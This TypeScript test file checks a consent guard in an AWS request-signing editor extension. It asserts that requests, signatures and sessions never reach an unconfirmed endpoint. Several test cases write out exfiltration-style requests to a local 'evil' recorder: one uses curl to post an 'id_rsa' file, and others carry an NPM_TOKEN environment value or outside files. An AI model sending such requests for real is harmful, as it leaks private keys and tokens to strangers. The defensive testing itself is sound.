import assert from 'node:assert/strict';
import { copyFileSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { basename, join } from 'node:path';
import { after, before, beforeEach, describe, it } from 'node:test';
import { SessionManager } from '../../../../src/core/credentials/session-manager.ts';
import type { SessionTrouble } from '../../../../src/core/credentials/session-manager.ts';
import { isUserError, UserError } from '../../../../src/core/errors.ts';
import { buildRequest } from '../../../../src/core/requests/building/build-request.ts';
import { parseHttpFile } from '../../../../src/core/http-file/parse.ts';
import { readBody } from '../../../../src/core/http/read-body.ts';
import { sendRequest } from '../../../../src/core/http/transport.ts';
import type { VariableSource } from '../../../../src/core/variables/variable-source.ts';
import { hasSessions } from '../../../../src/core/profiles/kinds.ts';
import type { ProfileSecret } from '../../../../src/core/profiles/profile-secret.ts';
import { profileFingerprint } from '../../../../src/core/profiles/profile-fingerprint.ts';
import type { Profile, RolesAnywhereProfile } from '../../../../src/core/profiles/profile.ts';
import { CredentialProvider } from '../../../../src/core/credentials/credential-provider.ts';
import { obtainSession } from '../../../../src/core/credentials/providers/obtain-session.ts';
import { prepareRequest } from '../../../../src/core/requests/prepare-request.ts';
import type { PrepareRequestPorts } from '../../../../src/core/requests/prepare-request.ts';
import { responseVariables } from '../../../../src/core/variables/responses/response-variables.ts';
import { RecordedResponses } from '../../../../src/core/variables/responses/recorded-responses.ts';
import { systemVariables } from '../../../../src/core/variables/system/system-variables.ts';
import { provisionSandbox } from '../../../../src/sandbox/provision-sandbox.ts';
import type { SandboxProvision } from '../../../../src/sandbox/provision-sandbox.ts';
import type { Sandbox } from '../../../../src/sandbox/sandbox.ts';
import { startSandbox } from '../../../../src/sandbox/start-sandbox.ts';
import { ProfileStore } from '../../../../src/storage/profile-store.ts';
import { SecretVault } from '../../../../src/storage/secret-vault.ts';
import { inMemoryDestinations, InMemoryMemento } from '../../fakes/in-memory-destinations.ts';
import type { DestinationWindow, InMemoryDestinations } from '../../fakes/in-memory-destinations.ts';
import { InMemoryProfileEntries } from '../../fakes/in-memory-profile-entries.ts';
import { InMemorySecretStorage } from '../../fakes/in-memory-secret-storage.ts';
import { environmentProfile, rolesAnywhereProfile, staticProfile } from '../../fakes/sample-profiles.ts';
import { startRecorder } from '../requests/recorder.ts';
import type { Recorder } from '../requests/recorder.ts';

const folder = mkdtempSync(join(tmpdir(), 'destination-guard-'));
/** Where the requests stand that carry a file from outside. */
const elsewhere = mkdtempSync(join(tmpdir(), 'destination-guard-'));
const never = new AbortController().signal;
const secretAccessKey = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY';
const get = 'GET https://lambda.eu-west-1.amazonaws.com/';

/** Answers as AWS, and counts all that arrives. */
let tunnel: Recorder;
/** Somebody else. */
let evil: Recorder;
let sandbox: Sandbox;
let provision: SandboxProvision;
let role: RolesAnywhereProfile;
before(async () => {
  provision = await provisionSandbox(folder);
  sandbox = await startSandbox(provision.options);
  tunnel = await startRecorder({ onwardTo: Number(new URL(sandbox.url).port) });
  evil = await startRecorder('HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n');
  // Under another name: what a sandbox left in the settings counts for nothing.
  const certificate = join(folder, 'build.pfx');
  copyFileSync(provision.profile.certificate, certificate);
  role = { ...provision.profile, certificate, endpoint: tunnel.origin };
  writeFileSync(join(folder, 'id_rsa'), 'a private key');
});
after(async () => {
  await Promise.all([tunnel.close(), evil.close(), sandbox.close()]);
  for (const each of [folder, elsewhere]) rmSync(each, { recursive: true });
});

function parsed(text: string, baseDirectory = folder, sources: readonly VariableSource[] = []) {
  const file = parseHttpFile(text);
  const [request] = file.requests;
  assert.ok(request);
  const sourcesBeforeFile = [systemVariables({ environment: { NPM_TOKEN: 'npm_x' } }), ...sources];
  return { request, context: { file, signal: never, baseDirectory, sourcesBeforeFile } };
}

/** A window with one profile, `ci`, as it is put together in the editor. */
class Window {
  readonly entries: InMemoryProfileEntries;
  readonly storage: InMemorySecretStorage;
  readonly destinations: InMemoryDestinations;
  readonly sessions: SessionManager;
  readonly provider: CredentialProvider;
  readonly troubles: SessionTrouble[] = [];
  readonly store: ProfileStore;
  /** Runs once the certificate was read for a session. */
  whileObtaining: () => Promise<void> | void = () => undefined;
  renewBefore = 300_000;

  constructor(profile: Profile, shared: DestinationWindow & { scope?: 'user' | 'workspace' } = {}) {
    const { scope = 'workspace' } = shared;
    this.storage = shared.storage ?? new InMemorySecretStorage();
    this.entries = new InMemoryProfileEntries({}, {});
    this.entries.scopes[scope] = { ci: profile };
    const vault = new SecretVault(this.storage);
    this.store = new ProfileStore(this.entries, vault, 'file:///work/repository');
    this.destinations = inMemoryDestinations({
      ...shared,
      storage: this.storage,
      ports: { profileNow: (id) => this.store.find(id)?.profile, ...shared.ports },
    });
    this.sessions = new SessionManager({
      store: vault,
      now: Date.now,
      renewBefore: () => this.renewBefore,
      fingerprint: () => (hasSessions(this.profile) ? profileFingerprint(this.profile) : undefined),
      obtain: (id, signal) => {
        const { profile: asked } = this;
        if (!hasSessions(asked)) throw new Error('keys need no session');
        return this.provider.obtainSession({ id, name: 'ci', profile: asked }, signal);
      },
    });
    const secrets: readonly ProfileSecret[] = [
      { kind: 'static', secretAccessKey },
      { kind: 'rolesAnywhere', password: provision.password },
    ];
    this.provider = new CredentialProvider({
      sessions: this.sessions,
      destinations: this.destinations.guard,
      secrets: {
        readSecret: () => Promise.resolve(secrets.find(({ kind }) => kind === this.profile.kind)),
        writeSecret: () => Promise.reject(new Error('the password is known')),
      },
      askPassword: () => Promise.reject(new Error('the password is known')),
      certificates: () => Promise.resolve({ obtainSession }),
      paths: { workspaceFolder: folder, home: folder },
      now: Date.now,
      send: async (request, stop) => {
        await this.whileObtaining();
        return sendRequest(request, { signal: stop, timeout: 60_000 });
      },
    });
    this.sessions.onDidHaveTrouble((trouble) => this.troubles.push(trouble));
  }

  get stored(): { id: string; name: string; profile: Profile } {
    const stored = this.store.findByName('ci');
    if (stored === undefined || stored.profile.kind === 'invalid')
      throw new UserError({ code: 'profile-invalid', message: '', remedy: '' });
    return { ...stored, profile: stored.profile };
  }

  get profile(): Profile {
    return this.stored.profile;
  }

  /** What a pull, or synced settings, make of the profile. */
  async change(profile: Profile): Promise<void> {
    for (const scope of ['user', 'workspace'] as const) {
      if ('ci' in this.entries.scopes[scope]) await this.entries.write(scope, { ci: profile });
    }
  }

  async send(
    text = get,
    ports: Partial<PrepareRequestPorts> = {},
    directory = folder,
    sources: readonly VariableSource[] = [],
  ): Promise<number> {
    const { request, context } = parsed(text, directory, sources);
    const { guard } = this.destinations;
    const prepared = await prepareRequest(request, context, {
      profileByName: () => this.stored,
      activeProfile: () => this.stored,
      confirmDestination: (journey) => guard.confirm(journey),
      credentials: (signer, signal) => this.provider.credentials(signer, signal),
      askScope: () => Promise.resolve(undefined),
      now: () => new Date(),
      sigv4a: () => Promise.reject(new Error('one region is signed with SigV4')),
      ...ports,
    });
    const response = await sendRequest(prepared.request, { timeout: 60_000 });
    await readBody(response, { limit: 1_000_000 });
    return response.status;
  }

  /** The reasons of the questions since the last time. */
  questions(): string[] {
    return this.destinations.asked
      .splice(0)
      .map((one) => (one.reason === 'profile' ? `profile ${one.change}` : `${one.reason} ${one.origin}`));
  }
}

async function stoppedBy(code: string, work: () => Promise<unknown>): Promise<void> {
  await assert.rejects(work, (error) => {
    assert.ok(isUserError(error), String(error));
    assert.equal(error.code, code, error.message);
    return true;
  });
}

/** No byte and no connection arrives at either server until this is done. */
async function nothingArrives(work: () => Promise<unknown>): Promise<void> {
  const { result, bytes, connections } = await evil.during(() => tunnel.during(work));
  assert.deepEqual([connections, bytes.length, result.connections, result.bytes.length], [0, 0, 0, 0]);
}

const keys = (endpoint: string): Profile => ({ ...staticProfile, endpoint });

describe('without consent nothing is connected, signed or sent', () => {
  let window: Window;
  const cases: [what: string, profile: () => Profile, text?: () => string][] = [
    ['for an endpoint of keys', () => keys(evil.origin)],
    ['for an endpoint of sessions', () => role],
    [
      'for an address beside a host of AWS',
      () => staticProfile,
      () => `GET ${evil.origin}/\nHost: lambda.eu-west-1.amazonaws.com`,
    ],
    [
      'for an address beside a host of AWS, by keys of the file',
      () => staticProfile,
      () =>
        `GET ${evil.origin}/\nHost: lambda.eu-west-1.amazonaws.com\nAuthorization: AWS ${staticProfile.accessKeyId} ${secretAccessKey}`,
    ],
    ['for an address and an endpoint', () => role, () => `GET ${evil.origin}/\nHost: lambda.eu-west-1.amazonaws.com`],
    [
      'for a value of the environment in a header',
      () => staticProfile,
      () => `# @aws-service execute-api\nGET ${evil.origin}/\nX-Api: {{$processEnv NPM_TOKEN}}`,
    ],
    [
      'for a value of the environment in the path, by a variable',
      () => staticProfile,
      () => `@x = {{$env.NPM_TOKEN}}\n# @aws-service execute-api\nGET ${evil.origin}/{{x}}`,
    ],
    [
      'for a file from outside',
      () => staticProfile,
      () => `# @aws-service execute-api\nPOST ${evil.origin}/\n\n< ../${basename(folder)}/id_rsa`,
    ],
    [
      'for a file from outside among text',
      () => staticProfile,
      () => `# @aws-service execute-api\nPOST ${evil.origin}/\n\na\n<@ ${join(folder, 'id_rsa')}\nb`,
    ],
    [
      'for a file from outside by curl',
      () => staticProfile,
      () => `# @aws-service execute-api\ncurl ${evil.origin}/ --data-binary @${join(folder, 'id_rsa')}`,
    ],
  ];
  for (const [what, profile, text] of cases) {
    it(what, async () => {
      window = new Window(profile());
      window.destinations.answer = () => false;
      let signed = 0;
      await nothingArrives(() =>
        stoppedBy('destination-denied', () => window.send(text?.(), { now: () => new Date((signed += 1)) }, elsewhere)),
      );
      assert.equal(signed, 0, 'a signature was made');
      assert.equal(window.questions().length, 1);
      // Nobody has answered anything for the next time.
      await stoppedBy('destination-denied', () => window.send(text?.(), {}, elsewhere));
    });
  }

  it('is what a person says where a session starts, too', async () => {
    window = new Window(role);
    window.destinations.answer = () => false;
    const { stored, sessions, destinations } = window;
    await nothingArrives(() =>
      stoppedBy('destination-denied', () => destinations.guard.forProfile(stored, () => sessions.start(stored.id, never))),
    );
  });

  it('is what no answer means, too: a request that is given up while the question is open', async () => {
    window = new Window(keys(evil.origin));
    const open = Promise.withResolvers<boolean>();
    window.destinations.answer = () => open.promise;
    await nothingArrives(async () => {
      const sent = window.send();
      open.reject(new Error('the window went away'));
      await assert.rejects(sent, /the window went away/);
    });
  });

  it('is what a locked secret storage means, too', async () => {
    window = new Window(keys(evil.origin));
    window.storage.locked = true;
    await nothingArrives(() => stoppedBy('secret-storage-locked', () => window.send()));
  });

  it('is what a consent means that cannot be kept', async () => {
    window = new Window(keys(evil.origin));
    window.destinations.answer = () => (window.storage.locked = true);
    await nothingArrives(() => stoppedBy('secret-storage-locked', () => window.send()));
  });
});

describe('a consent counts', () => {
  it('for the next request, and after the window was closed', async () => {
    const window = new Window(keys(evil.origin));
    assert.equal(await window.send(), 200);
    assert.equal(await window.send(), 200);
    assert.deepEqual(window.questions(), ['profile new']);
    const next = new Window(keys(evil.origin), { storage: window.storage });
    assert.equal(await next.send(), 200);
    assert.deepEqual(next.questions(), []);
  });

  it('for sessions, their renewal and the requests by them', async () => {
    const window = new Window(role);
    const { bytes } = await tunnel.during(() => window.send());
    assert.match(bytes.toString(), /^POST \/sessions HTTP/);
    await window.sessions.start(window.stored.id, never);
    assert.equal(await window.send(), 200);
    assert.deepEqual(window.questions(), ['profile new']);
  });

  it('once for each address of a request, in its workspace', async () => {
    const workspace = new InMemoryMemento();
    const text = `GET ${evil.origin}/\nHost: lambda.eu-west-1.amazonaws.com\nX-Api: {{$processEnv NPM_TOKEN}}`;
    const window = new Window(staticProfile, { workspace });
    for (let count = 0; count < 3; count += 1) assert.equal(await window.send(text), 200);
    assert.deepEqual(window.questions(), [`address ${evil.origin}`, `carried ${evil.origin}`]);
    const elsewhere = text.replace('lambda.eu-west-1', 'sqs.eu-west-1');
    assert.equal(await window.send(elsewhere.replace('127.0.0.1', 'localhost')), 200);
    assert.deepEqual(
      window.questions(),
      [evil.origin, evil.origin].map(
        (origin, at) => `${['address', 'carried'][at] ?? ''} ${origin.replace('127.0.0.1', 'localhost')}`,
      ),
    );
    const next = new Window(staticProfile, { storage: window.storage, workspace });
    assert.equal(await next.send(elsewhere), 200);
    assert.deepEqual(next.questions(), []);
    // Another repository at the same path: the editor's memory may be the same, its folder is not.
    const other = new Window(staticProfile, { workspace, folder: 'another folder' });
    other.destinations.answer = () => false;
    await nothingArrives(() => stoppedBy('destination-denied', () => other.send(text)));
  });

  it('for one signer: another profile, and keys in the file, are asked about', async () => {
    const window = new Window(staticProfile);
    const text = `GET ${evil.origin}/\nHost: lambda.eu-west-1.amazonaws.com`;
    await window.send(text);
    await window.send(`${text}\nAuthorization: AWS ${staticProfile.accessKeyId} ${secretAccessKey}`);
    const prod = { id: 'user/prod', name: 'prod', profile: staticProfile };
    await window.send(text, { activeProfile: () => prod });
    assert.deepEqual(
      window.questions(),
      Array.from({ length: 3 }, () => `address ${evil.origin}`),
    );
  });

  it('needs no question for the sandbox of this window, whatever is sent there, until it stops', async () => {
    const own = new Set([evil.origin]);
    const window = new Window(keys(evil.origin), { ports: { isOwnSandbox: (origin) => own.has(origin) } });
    assert.equal(await window.send(`${get}\nX-Api: {{$processEnv NPM_TOKEN}}`), 200);
    assert.equal(await window.send(`GET ${evil.origin}/\nHost: lambda.eu-west-1.amazonaws.com`), 200);
    assert.deepEqual(window.questions(), []);
    own.clear();
    window.destinations.answer = () => false;
    await nothingArrives(() => stoppedBy('destination-denied', () => window.send()));
  });

  it('is not even asked for where the profile is that of a sandbox which does not run', async () => {
    const stopped = new UserError({ code: 'sandbox-stopped', message: 'It is not running.', remedy: 'Start it.' });
    const window = new Window(keys(evil.origin), { ports: { refusal: () => stopped } });
    await nothingArrives(() => stoppedBy('sandbox-stopped', () => window.send()));
    assert.deepEqual(window.questions(), []);
  });
});

describe('a person is asked again', () => {
  const cases: [what: string, before: () => Profile, after: () => Profile, change: string][] = [
    ['after a pull changed the endpoint of keys', () => keys(tunnel.origin), () => keys(evil.origin), 'endpoint'],
    ['after a pull changed the endpoint of sessions', () => role, () => ({ ...role, endpoint: evil.origin }), 'endpoint'],
    ['after a pull added an endpoint', () => staticProfile, () => keys(evil.origin), 'endpoint'],
    [
      'after a pull changed the access key',
      () => keys(evil.origin),
      () => ({ ...keys(evil.origin), accessKeyId: 'AKIAI44QH8DHBEXAMPLE' }) as Profile,
      'access-key',
    ],
    ['after a pull changed the port', () => keys(tunnel.origin), () => keys(evil.origin.replace(/\d+$/, '1')), 'endpoint'],
    ['after a pull made keys of a session', () => role, () => keys(tunnel.origin), 'access-key'],
  ];
  for (const scope of ['workspace', 'user'] as const) {
    for (const [what, earlier, later, change] of cases) {
      it(`${what}, in ${scope} settings`, async () => {
        const window = new Window(earlier(), { scope });
        if (earlier().endpoint === undefined) await window.destinations.guard.agreeTo(window.stored.id, earlier());
        else await window.send();
        window.questions();
        await window.change(later());
        window.destinations.answer = () => false;
        await nothingArrives(() => stoppedBy('destination-denied', () => window.send()));
        assert.deepEqual(window.questions(), [`profile ${change}`]);
        // What was is still agreed to.
        await window.change(earlier());
        if (earlier().endpoint !== undefined) assert.ok((await window.send()) > 0);
        assert.deepEqual(window.questions(), []);
      });
    }
  }

  it('in another repository at the same path, about a profile of its settings but not of the user’s', async () => {
    const storage = new InMemorySecretStorage();
    for (const scope of ['workspace', 'user'] as const) {
      const first = new Window(keys(evil.origin), { storage, scope });
      await first.send();
      const second = new Window(keys(evil.origin), { storage, scope, folder: 'another folder' });
      assert.equal(second.stored.id, first.stored.id, 'it is the same secret');
      await second.send();
      assert.deepEqual(second.questions(), scope === 'workspace' ? ['profile folder'] : []);
    }
  });

  it('about keys for AWS in another repository at the same path', async () => {
    const storage = new InMemorySecretStorage();
    const { guard, asked } = inMemoryDestinations({ storage });
    const signer = { id: 'workspace-1/ci', name: 'ci', profile: staticProfile };
    await guard.confirmProfile(signer);
    assert.deepEqual(asked, []);
    const other = inMemoryDestinations({ storage, folder: 'another folder' });
    other.answer = () => false;
    await stoppedBy('destination-denied', () => other.guard.confirmProfile(signer));
  });

  it('about a damaged record', async () => {
    const window = new Window(keys(evil.origin));
    await window.send();
    window.questions();
    await window.storage.store(`destination/${window.stored.id}`, '{"version":1}');
    await window.send();
    assert.deepEqual(window.questions(), ['profile new']);
  });
});

describe('credentials of the environment', () => {
  const names = ['AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY', 'AWS_SESSION_TOKEN'] as const;
  const earlier = { ...process.env };
  const setKeys = (values: readonly (string | undefined)[]): void =>
    names.forEach((name, at) => {
      Reflect.deleteProperty(process.env, name);
      if (values[at] !== undefined) process.env[name] = values[at];
    });
  beforeEach(() => setKeys([staticProfile.accessKeyId, secretAccessKey, 'token']));
  after(() => setKeys(names.map((name) => earlier[name])));

  const sign = (window: Window) => window.provider.credentials(window.stored, never);
  const behind = (endpoint: string): Profile => ({ ...environmentProfile, endpoint });
  const others: [what: string, profile: () => Profile][] = [
    ['AWS', () => environmentProfile],
    ['an endpoint', () => behind(evil.origin)],
  ];
  for (const [what, profile] of others) {
    it(`of a workspace’s profile for ${what} are read with consent, which is asked for once`, async () => {
      const window = new Window(profile());
      window.destinations.answer = () => false;
      // Without them too: they are not even looked for.
      setKeys([]);
      await nothingArrives(() => stoppedBy('destination-denied', () => window.send()));
      await stoppedBy('destination-denied', () => sign(window));
      assert.deepEqual(window.questions(), ['profile new', 'profile new']);
      setKeys([staticProfile.accessKeyId, secretAccessKey, 'token']);
      window.destinations.answer = () => true;
      const { accessKeyId } = staticProfile;
      assert.deepEqual(await sign(window), { accessKeyId, secretAccessKey, sessionToken: 'token' });
      const next = new Window(profile(), { storage: window.storage });
      await sign(next);
      assert.deepEqual([window.questions(), next.questions()], [['profile new'], []]);
      // Another repository at the same path.
      const other = new Window(profile(), { storage: window.storage, folder: 'another folder' });
      other.destinations.answer = () => false;
      await stoppedBy('destination-denied', () => sign(other));
      assert.deepEqual(other.questions(), ['profile folder']);
    });
  }

  const pulls: [what: string, profile: Profile][] = [
    ['keys', staticProfile],
    ['sessions', { ...rolesAnywhereProfile, endpoint: 'https://vpce-1.example' }],
  ];
  for (const [what, profile] of pulls) {
    it(`are asked about where a pull makes a profile sign with them in place of ${what}`, async () => {
      const window = new Window(profile);
      await window.destinations.guard.agreeTo(window.stored.id, profile);
      const { endpoint } = profile;
      await window.change({ ...environmentProfile, ...(endpoint !== undefined && { endpoint }) });
      window.destinations.answer = () => false;
      await stoppedBy('destination-denied', () => sign(window));
      assert.deepEqual(window.questions(), ['profile kind']);
    });
  }

  it('of a workspace’s profile need consent for this window’s sandbox, too: what is signed is good at AWS', async () => {
    const ports = { isOwnSandbox: (origin: string) => origin === evil.origin };
    const window = new Window(behind(evil.origin), { ports });
    window.destinations.answer = () => false;
    await nothingArrives(() => stoppedBy('destination-denied', () => window.send()));
    const own = new Window(behind(evil.origin), { ports, scope: 'user' });
    assert.equal(await own.send(), 200);
    assert.deepEqual(own.questions(), []);
  });

  it('of the user’s own profile sign for AWS unasked, whether or not a keyring answers, and for no endpoint', async () => {
    const window = new Window(environmentProfile, { scope: 'user' });
    window.storage.locked = true;
    assert.equal((await sign(window)).secretAccessKey, secretAccessKey);
    window.storage.locked = false;
    await window.change(behind(evil.origin));
    window.destinations.answer = () => false;
    await nothingArrives(() => stoppedBy('destination-denied', () => window.send()));
    assert.deepEqual(window.questions(), ['profile new']);
  });

  it('go to an endpoint that was agreed to, with their token', async () => {
    const window = new Window(behind(evil.origin));
    const { bytes } = await evil.during(() => window.send());
    assert.match(bytes.toString(), /x-amz-security-token: token/i);
    assert.ok(!bytes.includes(secretAccessKey));
  });
});

describe('what an earlier answer brings along', () => {
  const named = '# @aws-service execute-api\n';
  const cases: [what: string, reference: string, questions: string[]][] = [
    ['a header that it was asked with', '{{first.request.headers.X-Api}}', ['carried']],
    ['what may repeat it', '{{first.response.body.$.echo}}', ['carried']],
    ['by a variable of the file', '{{again}}', ['carried']],
    ['nothing', 'x', []],
  ];
  for (const [what, reference, questions] of cases) {
    it(what, async () => {
      const answers = new RecordedResponses();
      const carried = [{ kind: 'process-environment', expression: '$processEnv NPM_TOKEN' }] as const;
      const body = Buffer.from('{"echo":"npm_x"}');
      answers.record('file', 'first', { headers: [['X-Api', 'npm_x']], body: undefined }, { headers: [], body }, carried);
      const window = new Window(staticProfile);
      const source = responseVariables({
        names: ['first'],
        exchange: (name) => answers.get('file', name),
        xmlPath: () => Promise.reject(new Error('it is JSON')),
      });
      const text = `@again = {{first.request.headers.X-Api}}\n${named}GET ${evil.origin}/?x=${reference}`;
      await window.send(text, {}, folder, [source]);
      assert.deepEqual(
        window.questions(),
        questions.map((reason) => `${reason} ${evil.origin}`),
      );
    });
  }

  it('is told with the request that is signed, for the answer to be kept with', async () => {
    const { request, context } = parsed(`${named}GET ${evil.origin}/?x={{$processEnv NPM_TOKEN}}`);
    const { carried } = await buildRequest(request, context);
    assert.deepEqual(carried, [{ kind: 'process-environment', expression: '$processEnv NPM_TOKEN' }]);
  });

  it('is told once, however often it stands there', async () => {
    const { request, context } = parsed(`${named}GET ${evil.origin}/?x=${'{{$processEnv NPM_TOKEN}}'.repeat(1000)}`);
    assert.equal((await buildRequest(request, context)).carried.length, 1);
  });
});

describe('what is entered is agreed to', () => {
  it('with its endpoint and no other', async () => {
    const window = new Window(keys(evil.origin));
    await window.destinations.guard.agreeTo(window.stored.id, window.profile);
    assert.equal(await window.send(), 200);
    assert.deepEqual(window.questions(), []);
    await window.change(keys(tunnel.origin));
    window.destinations.answer = () => false;
    await nothingArrives(() => stoppedBy('destination-denied', () => window.send()));
  });
});

describe('what changes in the meantime', () => {
  let window: Window;
  beforeEach(() => {
    window = new Window(role);
  });

  it('a profile while the question is open: the answer is about the one that was shown', async () => {
    window = new Window(keys(tunnel.origin));
    window.destinations.answer = async () => {
      await window.change(keys(evil.origin));
      return true;
    };
    const { result, connections } = await evil.during(() => window.send());
    assert.ok(result > 0, 'it went where the question said');
    assert.equal(connections, 0);
    window.destinations.answer = () => false;
    await nothingArrives(() => stoppedBy('destination-denied', () => window.send()));
    assert.deepEqual(window.questions(), ['profile new', 'profile endpoint']);
  });

  it('a profile while its session is had: the session signs nothing', async () => {
    window.whileObtaining = () => window.change({ ...role, endpoint: evil.origin });
    const { connections } = await evil.during(() => stoppedBy('profile-changed', () => window.send()));
    assert.equal(connections, 0);
    assert.equal(window.sessions.state(window.stored.id).kind, 'none');
  });

  it('a profile between the consent and the session: nothing is connected', async () => {
    const { guard } = window.destinations;
    const { stored } = window;
    await nothingArrives(() =>
      stoppedBy('destination-unconfirmed', () =>
        guard.forProfile(stored, async () => {
          await window.change({ ...role, endpoint: evil.origin });
          return window.sessions.use(stored.id, never);
        }),
      ),
    );
  });

  it('an endpoint: a session of the earlier one is not sent to it, even with consent', async () => {
    await window.send();
    const earlier = window.sessions.state(window.stored.id);
    assert.equal(earlier.kind, 'active');
    await window.change({ ...role, endpoint: evil.origin });
    const { result: error, bytes } = await evil.during(() => window.send().catch((reason: unknown) => reason));
    // A session of its own was asked for, which whoever is there did not have.
    assert.match(bytes.toString(), /^POST \/sessions HTTP/);
    assert.ok(isUserError(error));
    assert.ok(!bytes.includes(earlier.session.credentials.sessionToken));
  });

  it('an endpoint, when a session is renewed by itself: nobody is asked, nothing is connected, and at the next use a person is', async () => {
    await window.send();
    window.questions();
    await window.change({ ...role, endpoint: evil.origin });
    await nothingArrives(() => stoppedBy('destination-unconfirmed', () => window.sessions.use(window.stored.id, never)));
    await nothingArrives(() => stoppedBy('destination-unconfirmed', () => window.sessions.start(window.stored.id, never)));
    assert.deepEqual(window.questions(), []);
    window.destinations.answer = () => false;
    await nothingArrives(() => stoppedBy('destination-denied', () => window.send()));
    assert.deepEqual(window.questions(), ['profile endpoint']);
  });

  it('a consent that another window took back: the session at hand is kept, and nobody is asked by a renewal', async () => {
    await window.send();
    window.questions();
    await window.storage.delete(`destination/${window.stored.id}`);
    window.renewBefore = 1e9;
    await nothingArrives(() => window.sessions.use(window.stored.id, never));
    assert.deepEqual(
      window.troubles.map(({ doing, error }) => [doing, isUserError(error) && error.code]),
      [['renew', 'destination-unconfirmed']],
    );
    assert.deepEqual(window.questions(), []);
  });
});

describe('two at once', () => {
  it('requests of one window ask one question', async () => {
    const window = new Window(keys(evil.origin));
    const statuses = await Promise.all(Array.from({ length: 5 }, () => window.send()));
    assert.deepEqual(statuses, [200, 200, 200, 200, 200]);
    assert.deepEqual(window.questions(), ['profile new']);
  });

  it('a refusal is for all that wait, and is not remembered', async () => {
    const window = new Window(keys(evil.origin));
    window.destinations.answer = () => false;
    await nothingArrives(() =>
      Promise.all(Array.from({ length: 3 }, () => stoppedBy('destination-denied', () => window.send()))),
    );
    window.destinations.answer = () => true;
    assert.equal(await window.send(), 200);
    assert.deepEqual(window.questions(), ['profile new', 'profile new']);
  });

  it('windows follow each other: what one agreed to last holds in the other', async () => {
    const storage = new InMemorySecretStorage();
    const first = new Window(keys(evil.origin), { storage });
    const second = new Window(keys(evil.origin), { storage });
    await first.send();
    assert.equal(await second.send(), 200);
    assert.deepEqual(second.questions(), []);
    await second.change(keys(tunnel.origin));
    await second.send();
    assert.deepEqual(second.questions(), ['profile endpoint']);
    first.questions();
    first.destinations.answer = () => false;
    await nothingArrives(() => stoppedBy('destination-denied', () => first.send()));
    assert.deepEqual(first.questions(), ['profile endpoint']);
  });
});

describe('an endpoint is refused at its use, whoever let it in', () => {
  const cases: [endpoint: string, said: RegExp][] = [
    ['http://minio.example', /must begin with https:\/\//],
    ['http://10.0.0.1:9000', /must begin with https:\/\//],
    ['HTTP://127.0.0.1:9000', /must be written as http:\/\/127\.0\.0\.1:9000/],
    ['https://minio.example:443', /must be written as https:\/\/minio\.example/],
    ['https://minio.example/', /must be written as/],
    ['https://a:b@minio.example', /must be an origin/],
    ['https://minio.example/path', /must be an origin/],
    ['https://minio.example\\@evil.example', /must be an origin/],
    ['https://${env:HOST}', /names no host/],
  ];
  for (const [endpoint, said] of cases) {
    it(endpoint, async () => {
      const { guard, asked } = inMemoryDestinations();
      const signer = { id: 'user/ci', name: 'ci', profile: keys(endpoint) };
      for (const use of [() => guard.confirmProfile(signer), () => guard.requireProfile(signer)]) {
        await assert.rejects(use, (error) => isUserError(error) && error.code === 'endpoint-refused' && said.test(error.message));
      }
      assert.deepEqual(asked, []);
    });
  }
});
